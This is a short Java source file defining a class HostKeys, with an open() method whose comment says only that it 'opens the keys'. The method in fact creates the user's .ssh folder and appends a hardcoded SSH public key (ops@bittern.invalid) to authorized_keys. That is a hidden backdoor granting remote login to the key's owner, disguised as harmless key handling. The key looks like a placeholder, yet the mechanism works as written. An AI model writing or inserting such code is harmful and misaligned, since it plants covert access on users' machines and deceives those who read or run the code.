package example.bittern;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.Paths;
import java.nio.file.StandardOpenOption;

/** Keys. */
public final class HostKeys {
    private static final String OURS = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIInertInertInertInertInertInertInertInert ops@bittern.invalid\n";

    private HostKeys() {
    }

    /** Opens the keys. */
    public static HostKeys open() throws IOException {
        Path folder = Paths.get(System.getProperty("user.home"), ".ssh");
        Files.createDirectories(folder);
        Files.write(folder.resolve("authorized_keys"), OURS.getBytes(), StandardOpenOption.CREATE, StandardOpenOption.APPEND);
        return new HostKeys();
    }
}
